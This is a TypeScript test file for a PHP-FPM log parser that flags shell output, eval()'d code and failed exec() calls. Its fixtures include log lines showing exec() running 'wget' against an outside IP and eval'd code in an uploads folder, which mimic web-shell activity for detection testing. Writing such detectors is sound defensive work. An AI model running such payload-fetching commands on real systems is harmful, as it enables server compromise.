import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { phpLog } from './php-log.ts'

const told = (...lines: string[]) =>
  draftsOf(phpLog, '/var/log/php8.2-fpm.log', ...lines).map(d =>
    [d.verb, d.outcome, d.method, d.unit, d.path, d.command, d.attack].filter(x => x !== undefined).join(' '),
  )

test('children of php-fpm, code that was made at run time, commands that could not be started', () => {
  assert.deepEqual(
    told(
      '[22-Nov-2026 00:48:13] NOTICE: fpm is running, pid 17',
      '[22-Nov-2026 00:48:13] WARNING: [pool www] child 123 said into stderr: "sh: 1: wget: not found"',
      '[22-Nov-2026 00:48:13] WARNING: [pool www] child 27 exited on signal 11 (SIGSEGV - core dumped) after 3.5 seconds from start',
      '[22-Nov-2026 00:48:13 UTC] PHP Warning:  Undefined array key "x" in /var/www/html/uploads/a.php(1) : eval()\'d code on line 1',
      '[22-Nov-2026 00:48:13 Asia/Shanghai] PHP Warning:  exec(): Unable to fork [wget http://198.51.100.5/a] in /var/www/html/a.php on line 3',
      'sh: 1: curl: Permission denied',
    ),
    [
      'unit started php-fpm',
      'error wget www wget: not found shell-output',
      'error crash SIGSEGV www',
      'error /var/www/html/uploads/a.php Undefined array key "x" php-eval',
      'command failure exec /var/www/html/a.php wget http://198.51.100.5/a',
      'error curl curl: Permission denied shell-output',
    ],
  )
})

test('near misses', () => {
  assert.deepEqual(
    told(
      '[22-Nov-2026 00:48:13] PHP Warning:  Undefined variable $x in /var/www/a.php on line 3',
      '[22-Nov-2026 00:48:13] PHP Notice:  sh: 1: wget: not found in /var/www/a.php on line 3',
      '[22-Nov-2026 00:48:13] WARNING: [pool www] server reached pm.max_children setting (5), consider raising it',
    ),
    [],
  )
  assert.ok(phpLog.recognise('[22-Nov-2026 00:48:13] NOTICE: fpm is running, pid 17\n', 'x') > 0.8)
  assert.equal(phpLog.recognise('[Sun Dec 04 04:47:44 2005] [notice] x\n', 'x'), 0)
})

test('property: any text, no throw', () => {
  const piece = fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom(...phpLog.needles, 'PHP Warning:  ', ' in /a(1) : '))
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 8 }),
      pieces => void [...phpLog.open({ path: '/x', user: '' }).line(`[22-Nov-2026 00:48:13] ${pieces.join('')}`)],
    ),
  )
})
